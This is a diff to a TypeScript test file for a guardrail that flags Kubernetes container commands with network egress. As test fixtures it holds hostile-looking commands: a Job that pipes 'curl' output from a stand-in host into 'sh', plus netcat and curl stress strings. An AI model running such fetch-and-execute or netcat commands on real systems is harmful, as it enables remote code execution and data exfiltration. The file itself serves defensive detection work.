@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { guardrailContribution } from '../../src/guardrails/effect.js';
 import { inspect } from '../../src/guardrails/inspect.js';
 import { checkExecCommand, commandShape } from '../../src/guardrails/rules/commands.js';
 import type { GuardrailResult } from '../../src/guardrails/types.js';
@@ -119,5 +120,19 @@ describe('container_command_egress: a hostile command costs what reading it does
     expect(commandShape([Array.from({ length: 200_000 }, () => 'curl x').join(' | ')])).toBeUndefined();
     expect(commandShape([`sh -c ${'$(a'.repeat(200_000)}`])).toBeUndefined();
     expect(commandShape([`${'/proc/a'.repeat(100_000)} | nc h 1`])).toBeUndefined();
+  });
+});
+
+describe('container_command_egress: its effect', () => {
+  const body = { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'j' }, spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name: 'c', image: 'busybox:1.36', command: sh('curl -s https://x.example/i | sh') }] } } } };
+  const judge = (section: string) => {
+    const s = guardSettings(section);
+    return guardrailContribution(inspect(kube('POST', '/apis/batch/v1/namespaces/dev/jobs'), JSON.stringify(body), 'application/json', false, s), 'dev', s);
+  };
+
+  it('is critical by default (the strongest level within 5 minutes), weaker or off where a site sets it', () => {
+    expect(judge('guardrails: {}\n')).toMatchObject({ deny: false, level: 2, maxAge: 300, codes: ['container_command_egress'] });
+    expect(judge('guardrails:\n  effects:\n    container_command_egress: { require: aal2, max_age: 900 }\n')).toMatchObject({ level: 1, maxAge: 900 });
+    expect(judge('guardrails:\n  effects:\n    container_command_egress: off\n').codes).toEqual([]);
   });
 });
